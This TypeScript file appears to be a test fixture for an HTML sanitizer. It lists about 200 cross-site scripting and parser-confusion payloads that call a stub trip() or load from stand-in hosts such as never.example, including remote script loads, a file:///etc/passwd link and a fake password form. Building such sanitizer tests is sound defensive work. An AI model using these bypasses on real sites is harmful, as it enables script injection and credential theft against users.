/**
 * What people have tried on sanitizers, and what parsers stumble over. Whatever runs calls `trip()`; whatever is fetched comes from
 * never.example. Where a browser would ask for a file of this very site instead, it is called never as well.
 */
export const attacks: Readonly<Record<string, string>> = {
  // Scripts
  script: '<script>trip()</script>',
  'script with source': '<script src="https://never.example/a.js"></script>',
  'module script': '<script type="module">trip()</script>',
  'script in capitals': '<SCRIPT>trip()</SCRIPT>',
  'script with a slash': '<script/x>trip()</script>',
  'script left open': '<script>trip()',
  'script in script': '<scr<script>ipt>trip()</scr</script>ipt>',
  'script after a null byte': '<scr\0ipt>trip()</scr\0ipt><script\0>trip()</script>',
  'script in a table': '<table><tr><script>trip()</script><td>x',
  'script in SVG': '<svg><script>trip()</script></svg>',
  'script in SVG by reference': '<svg><script href="https://never.example/a.js" /></svg>',
  'script in SVG, encoded': '<svg><script>&#116;rip()</script></svg>',
  'script in MathML': '<math><script>trip()</script></math>',
  'import map': '<script type="importmap">{"imports":{"lit":"https://never.example/a.js"}}</script>',
  'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["https://never.example/a"]}]}</script>',
  'style as script': '<style>@import "https://never.example/a.css"; body { display: none }</style>',
  noscript: '<noscript><img src="https://never.example/a" onerror="trip()"></noscript>',

  // Handlers
  'onerror of a picture': '<img src="data:," onerror="trip()">',
  'onerror without quotes': '<img src=data:, onerror=trip()>',
  'onerror after slashes': '<img/src="data:,"/onerror="trip()">',
  'onerror after a form feed': '<img\fsrc="data:,"\fonerror=trip()>',
  'onerror after backticks': '<img src=`data:,` onerror=trip()>',
  'onerror twice': '<img src="data:," onerror="trip()" onerror="trip()">',
  'onerror in capitals': '<IMG SRC="data:," ONERROR="trip()">',
  'onerror of a picture named image': '<image src="data:," onerror="trip()">',
  'handler that says a lang=':
    '<b onclick="trip();a lang=" style="x dir=ltr">x</b><p id="abbr title=" class="ol start=">y</p>',
  'onload of SVG': '<svg onload="trip()"></svg>',
  'onload of SVG, left open': '<svg/onload=trip()',
  'onbegin of an animation': '<svg><animate onbegin="trip()" attributeName="x" dur="1s" /></svg>',
  'ontoggle of details': '<details open ontoggle="trip()"><summary>x</summary>y</details>',
  'onfocus of a field': '<input autofocus onfocus="trip()">',
  'onfocus of anything': '<b tabindex="1" autofocus onfocus="trip()">x</b>',
  'onfocus of a link': '<a href="https://a.example/" autofocus onfocus="trip()" id="x">x</a>',
  'onfocus of a list': '<select autofocus onfocus="trip()"><option>x</option></select>',
  'onfocus of a text': '<textarea autofocus onfocus="trip()"></textarea>',
  'onblur of a field': '<input onblur="trip()" autofocus><input autofocus>',
  'onclick of a paragraph': '<p onclick="trip()" onmouseover="trip()" onpointerenter="trip()">x</p>',
  onanimationstart: '<style>@keyframes x {}</style><b style="animation: x 1s" onanimationstart="trip()">x</b>',
  ontransitionend: '<b style="transition: 1s" ontransitionend="trip()">x</b>',
  oncontentvisibilityautostatechange:
    '<p style="content-visibility: auto" oncontentvisibilityautostatechange="trip()">x</p>',
  onbeforematch: '<p hidden="until-found" onbeforematch="trip()">x</p>',
  onscrollsnapchange: '<p style="overflow: auto" onscroll="trip()" onscrollsnapchange="trip()">x</p>',
  'onstart of a marquee': '<marquee onstart="trip()">x</marquee>',
  'onload of a body': '<body onload="trip()" onpageshow="trip()" onhashchange="trip()">x',
  'onload of a whole page': '<html onload="trip()" id="x"><head onload="trip()"><title>x</title></head><body>y',
  'onload of a frame': '<iframe onload="trip()"></iframe>',
  'onload of a frameset': '<frameset onload="trip()"><frame src="https://never.example/a"></frameset>',
  'onload of a style': '<style onload="trip()"></style>',
  'onload of a style sheet': '<link rel="stylesheet" href="data:text/css," onload="trip()">',
  'onerror of a film': '<video><source src="data:," onerror="trip()"></video>',
  'onloadstart of a film': '<video onloadstart="trip()" src="https://never.example/a.webm"></video>',
  'onerror of a sound': '<audio src="data:," onerror="trip()"></audio>',
  'onerror of an object': '<object data="https://never.example/a" onerror="trip()"></object>',
  'onload of an embedded thing': '<embed src="https://never.example/a.svg" onload="trip()">',

  // Addresses
  'javascript address': '<a href="javascript:trip()">x</a>',
  'javascript address in capitals': '<a href="JaVaScRiPt:trip()">x</a>',
  'javascript address after spaces': '<a href=" \t\n javascript:trip()">x</a>',
  'javascript address after control characters': '<a href="&#1;&#8;&#14;javascript:trip()">x</a>',
  'javascript address with a tab': '<a href="java&Tab;script&colon;trip()">x</a>',
  'javascript address with line breaks': '<a href="java\nscr\r\nipt:trip()">x</a>',
  'javascript address in references':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;trip()">x</a>',
  'javascript address in long references':
    '<a href="&#x000006A;avascript&#0000058trip()">x</a><a href="jav&#x0000061script:trip()">y</a>',
  'javascript address with a null byte': '<a href="java\0script:trip()">x</a><a href="\0javascript:trip()">y</a>',
  'javascript address that looks like another': '<a href="javascript://https://a.example/%0Atrip()">x</a>',
  'javascript address behind the web': '<a href="https:\njavascript:trip()">x</a>',
  'vbscript address': '<a href="vbscript:trip()">x</a>',
  'livescript address': '<a href="livescript:trip()">x</a><a href="mocha:trip()">y</a>',
  'data address': '<a href="data:text/html,<script>parent.trip()</script>">x</a>',
  'data address in base 64': '<a href="data:text/html;base64,PHNjcmlwdD50cmlwKCk8L3NjcmlwdD4=">x</a>',
  'blob address': '<a href="blob:https://a.example/1">x</a><a href="filesystem:https://a.example/1">y</a>',
  'file address': '<a href="file:///etc/passwd">x</a><a href="view-source:https://a.example/">y</a>',
  'address of an app': '<a href="intent://x#Intent;end">x</a><a href="tel:+33123456789">y</a><a href="sms:1">z</a>',
  'address of another host': '<a href="//evil.example/">x</a><a href="\\\\evil.example\\">y</a>',
  'address of another host, slashes the other way':
    '<a href="/\\evil.example/">x</a><a href="https:\\\\evil.example">y</a>',
  'address without slashes': '<a href="https:never.example/a">x</a><a href="http:/a">y</a>',
  'address of this page': '<a href="#x">x</a><a href="?x">y</a><a href="">z</a><a href="never">w</a>',
  'address with a line break in its scheme': '<a href="ht\ntps://a.example/">x</a>',
  'address with a ping': '<a href="https://a.example/" ping="https://never.example/a">x</a>',
  'address for another window': '<a href="https://a.example/" target="_top" rel="opener" download="x">x</a>',
  'address with attribution': '<a href="https://a.example/" attributionsrc="https://never.example/a">x</a>',
  'address in xlink': '<a xlink:href="javascript:trip()">x</a><svg><a xlink:href="javascript:trip()">y</a></svg>',
  'address set by an animation':
    '<svg><a><animate attributeName="href" values="javascript:trip()" /><text>x</text></a></svg>',
  'address set by set': '<svg><a id="x"><set attributeName="href" to="javascript:trip()" /><text>x</text></a></svg>',
  'address of MathML': '<math href="javascript:trip()"><mtext>x</mtext></math>',
  'address of an area': '<map name="x"><area shape="rect" coords="0,0,9,9" href="javascript:trip()"></map>',
  'address of a form': '<form action="javascript:trip()"><button>x</button></form>',
  'address of a button': '<form><button formaction="javascript:trip()">x</button></form>',
  'address of a quotation': '<q cite="javascript:trip()">x</q><del cite="https://never.example/a">y</del>',
  'address of a base': '<base href="https://never.example/"><a href="a">x</a>',

  // What fetches without a script
  picture: '<img src="https://never.example/a" alt="x">',
  'picture of this site': '<img src="never"><img src="/never">',
  'picture by srcset': '<img srcset="https://never.example/b 1x" sizes="1px" alt="x">',
  'picture with low source': '<img lowsrc="https://never.example/a" dynsrc="https://never.example/b" longdesc="never">',
  'picture by its element':
    '<picture><source srcset="https://never.example/a"><img src="https://never.example/b"></picture>',
  'picture in an address of data':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='trip()'/>\">",
  'picture of SVG': '<svg><image href="https://never.example/a" /><use href="https://never.example/b#x" /></svg>',
  'picture of SVG that paints': '<svg><filter><feImage href="https://never.example/a" /></filter></svg>',
  'picture behind a table':
    '<table background="https://never.example/a"><td background="https://never.example/b">x</table>',
  'picture behind a paragraph': '<p style="background: url(https://never.example/a)">x</p>',
  'picture as a field': '<input type="image" src="https://never.example/a" onerror="trip()">',
  'poster of a film': '<video poster="https://never.example/a"></video>',
  'track of a film': '<video><track default src="https://never.example/a"></video>',
  'style sheet': '<link rel="stylesheet" href="https://never.example/a.css">',
  preload:
    '<link rel="preload" as="image" href="https://never.example/a"><link rel="prefetch" href="https://never.example/b">',
  preconnect: '<link rel="preconnect" href="https://never.example/"><link rel="dns-prefetch" href="//never.example/">',
  icon: '<link rel="icon" href="https://never.example/a"><link rel="manifest" href="https://never.example/b">',
  refresh: '<meta http-equiv="refresh" content="0; url=https://never.example/a">',
  'policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">',
  frame: '<iframe src="https://never.example/a"></iframe>',
  'frame with a script': '<iframe src="javascript:parent.trip()"></iframe>',
  'frame with a page': '<iframe srcdoc="<script>parent.trip()</script>"></iframe>',
  'frame left open': '<iframe><img src="data:," onerror="trip()">',
  'fenced frame':
    '<fencedframe src="https://never.example/a">x</fencedframe><portal src="https://never.example/b"></portal>',
  object: '<object data="https://never.example/a"><param name="src" value="https://never.example/b">x</object>',
  'object with a page': '<object data="data:text/html,<script>parent.trip()</script>"></object>',
  embed: '<embed src="https://never.example/a.swf" allowscriptaccess="always">',
  applet: '<applet code="A" archive="https://never.example/a.jar">x</applet>',
  sound: '<bgsound src="https://never.example/a"><audio autoplay src="https://never.example/b"></audio>',

  // What means something else once it is written and read again
  'MathML and style': '<form><math><mtext></form><form><mglyph><style></math><img src="data:," onerror="trip()">',
  'MathML and a table':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=trip()&gt;">',
  'MathML and a comment':
    '<math><mtext><table><mglyph><style><math><img title="</style><img src=data:, onerror=trip()>">',
  'MathML and annotations':
    '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=data:, onerror=trip()>"></annotation-xml></math>',
  'MathML and a heading': '<math><mi><h1></math><h1><style><img src=data:, onerror=trip()></style>',
  'MathML and xmp': '<math><mtext><xmp><p title="</xmp><img src=data:, onerror=trip()>">',
  'SVG and style': '<svg></p><style><a id="</style><img src=data:, onerror=trip()>">',
  'SVG and a paragraph': '<svg><p><style><g title="</style><img src=data:, onerror=trip()>">',
  'SVG and title': '<svg><title><style><img src="</style><img src=data:, onerror=trip()>"></title></svg>',
  'SVG and desc': '<svg><desc><noscript><p title="</noscript><img src=data:, onerror=trip()>"></desc></svg>',
  'SVG and foreignObject': '<svg><foreignObject><img src="data:," onerror="trip()"><p>x</foreignObject></svg>',
  'SVG and CDATA': '<svg><style><![CDATA[</style><img src=data:, onerror=trip()>]]></style></svg>',
  'SVG and a break out': '<svg><b><img src="data:," onerror="trip()"></svg>',
  'SVG and a template': '<svg><template><style></template><img src=data:, onerror=trip()></style></svg>',
  'style and a comment': '<style><!--</style><img src="data:," onerror="trip()">--></style>',
  'noscript and a title': '<noscript><p title="</noscript><img src=data:, onerror=trip()>">x</noscript>',
  'noscript and style': '<noscript><style></noscript><img src=data:, onerror=trip()></style>',
  'title and a title': '<title><p title="</title><img src=data:, onerror=trip()>">',
  'textarea and a title': '<textarea><p title="</textarea><img src=data:, onerror=trip()>">',
  'noembed and a title': '<noembed><p title="</noembed><img src=data:, onerror=trip()>"></noembed>',
  'noframes and a title': '<noframes><p title="</noframes><img src=data:, onerror=trip()>"></noframes>',
  'xmp and a title': '<xmp><p title="</xmp><img src=data:, onerror=trip()>"></xmp>',
  'listing and a comment': '<listing>&lt;img src=data:, onerror=trip()&gt;</listing>',
  plaintext: '<plaintext><img src="data:," onerror="trip()">',
  isindex: '<isindex prompt="x" action="javascript:trip()" type="image" src="data:," onerror="trip()">',
  'select and a picture': '<select><img src="data:," onerror="trip()"><option>x</select>',
  'select and style': '<select><style></select><img src=data:, onerror=trip()></style>',
  'select and a table': '<table><td><select><tr><td><img src="data:," onerror="trip()">',
  'select and MathML': '<select><math><mtext><style></select><img src=data:, onerror=trip()>',
  'select with a button':
    '<select><button><selectedcontent></button><option><b onclick="trip()">x</b></option></select>',
  'foster parents': '<table><b><tr>x<td>y</b></td>z<img src="data:," onerror="trip()"></table>w',
  'foster parents of a form': '<table><form><tr><td><form id="x"></table><input name="y"></form>',
  'forms in forms': '<form id="x"><div></form><form id="y"><input name="parentNode"></div></form>',
  'links in links': '<a href="https://a.example/">x<a href="javascript:trip()">y<table><a href="javascript:trip()">z',
  'formatting out of order': '<b><i><p onclick="trip()">x</b>y</i></p><u><a href="javascript:trip()">z</u></a>',
  'quote that never ends': '<p title="x<img src=data:, onerror=trip()>',
  'quote that ends early': '<abbr title="x"onclick="trip()"y">z</abbr>',
  'tag that never ends': 'x<img src="data:," onerror="trip()"',
  'attribute named like a tag': '<p <img src="data:," onerror="trip()"><b =x onclick=trip()>y</b>',
  'attribute that names another': '<b lang="x" lang="y" lang=dir onclick="trip()">z</b><p lang=dir=ltr>w</p>',

  // Comments and other declarations
  comment: '<!--<img src="data:," onerror="trip()">-->x',
  'comment that ends early': '<!--><img src="data:," onerror="trip()">--><!---><img src="data:," onerror="trip()">-->',
  'comment that ends with a mark': '<!-- --!><img src="data:," onerror="trip()"> -->',
  'comment of old':
    '<!--[if gte IE 4]><script>trip()</script><![endif]--><comment><img src="data:," onerror="trip()"></comment>',
  'processing instruction': '<?xml-stylesheet href="javascript:trip()"?><?php ><img src="data:," onerror="trip()">?>',
  declaration: '<!DOCTYPE html [<!ENTITY x "<script>trip()</script>">]>&x;',
  CDATA: '<![CDATA[<img src="data:," onerror="trip()">]]>',
  'end tag with attributes': '</p onclick="trip()"></br onclick="trip()"></x><//img src=data:, onerror=trip()>',
  'XML island': '<xml id="x"><i><![CDATA[<img src="data:,"]]><![CDATA[ onerror="trip()">]]></i></xml>',

  // Names that hide the browser's own
  'form with hidden members':
    '<form><input name="attributes"><input name="childNodes"><input name="firstChild"><input name="nodeType"><p onclick="trip()">x</p></form>',
  'form with hidden walk': '<input form="f" name="nextSibling"><form id="f"><b>x</b><input name="parentNode">y</form>z',
  'form with hidden names': '<form><input name="localName"><input name="nodeName"><input name="getAttribute">x</form>',
  'form with hidden text': '<form>x<textarea name="textContent"></textarea><button name="remove"></button></form>',
  'document with hidden body':
    '<img name="body"><img name="documentElement"><img name="firstChild"><form name="head">x</form>',
  'document with hidden functions':
    '<img name="createTreeWalker"><img name="querySelector"><embed name="getElementById">',
  'window with hidden names': '<a id="trip">x</a><a id="x" name="y" href="cid:z">w</a><p id="documentElement">v</p>',
  'properties of every object':
    '<p id="__proto__">x</p><p id="constructor" name="toString">y</p><b hasOwnProperty=x>z</b>',

  // Elements that come alive
  'custom element':
    '<comment-widget endpoint="https://never.example/">x</comment-widget><never-seen onclick="trip()">y</never-seen>',
  'customized element': '<p is="never-seen" onclick="trip()">x</p><button is="never-seen">y</button>',
  'shadow root': '<div><template shadowrootmode="open"><img src="data:," onerror="trip()"></template>x</div>',
  'shadow root that is closed':
    '<p><template shadowrootmode="closed" shadowrootserializable><script>trip()</script></template>x',
  'shadow root of an element that stays':
    '<blockquote><template shadowrootmode="open"><b>a</b></template>x</blockquote>',
  template: '<template><img src="data:," onerror="trip()"></template>',
  'template left open': 'x<template><div><img src="data:," onerror="trip()">',
  slot: '<p slot="form">x</p><slot name="thread" onslotchange="trip()">y</slot>',
  part: '<p part="body" exportparts="body">x</p>',
  popover: '<div popover id="x" onbeforetoggle="trip()" ontoggle="trip()">x</div><button popovertarget="x">y</button>',
  'popover by an interest':
    '<a href="https://a.example/" interestfor="x">x</a><p popover="hint" id="x" oninterest="trip()">y</p>',
  command:
    '<button commandfor="x" command="show-modal">x</button><dialog id="x" oncommand="trip()" ontoggle="trip()">y</dialog>',
  dialog: '<dialog open onclose="trip()"><form method="dialog"><button autofocus>x</button></form></dialog>',
  'editable text': '<p contenteditable autofocus onfocus="trip()" inert draggable="true" accesskey="x">x</p>',
  overlay: '<div style="position: fixed; inset: 0; z-index: 9999" class="comment" part="body" hidden>x</div>',
  'sign-in form':
    '<form action="https://never.example/"><label>Password <input type="password" name="p"></label><input type="submit"></form>',
  'field of another form': '<input form="commentform" name="email" value="x"><button form="commentform">y</button>',
  metadata:
    '<p itemscope itemtype="https://a.example/" itemid="x" about="y" data-x="z" nonce="w" aria-label="v" role="alert">u</p>',
  'hidden by meaning':
    '<p aria-hidden="true" hidden inert>x</p><p aria-live="assertive" role="alert" tabindex="5">y</p>',

  // Text that is not what it seems
  'null bytes': 'a\0b<b\0>c</b\0><\0b>d</b>&#0;<p lang="\0">e</p>',
  'writing that turns': '<a href="https://a.example/">\u202egpj.exe</a>\u2066x\u202dy',
  'characters nobody sees': '\u200b\u200d\ufeff<b>\u00ad</b>\ue000\uffff\ud800',
  'brackets of another width': '\uff1cscript\uff1etrip()\uff1c/script\uff1e',
  'brackets in references': '&lt;script&gt;trip()&lt;/script&gt;&amp;lt;script&amp;gt;',
  'brackets in UTF-7': '+ADw-script+AD4-trip()+ADw-/script+AD4-',
  'escapes of JavaScript': '\\u003cscript\\u003etrip()\\x3c/script\\x3e%3Cscript%3Etrip()%3C/script%3E',
  'reference without an end': '&ltimg src=data:, onerror=trip()&gt&#60script&#62trip()&#60/script&#62',
  'templates of others': '{{constructor.constructor("trip()")()}} ${trip()} <%= trip() %> #{trip()} [[trip()]]',
};
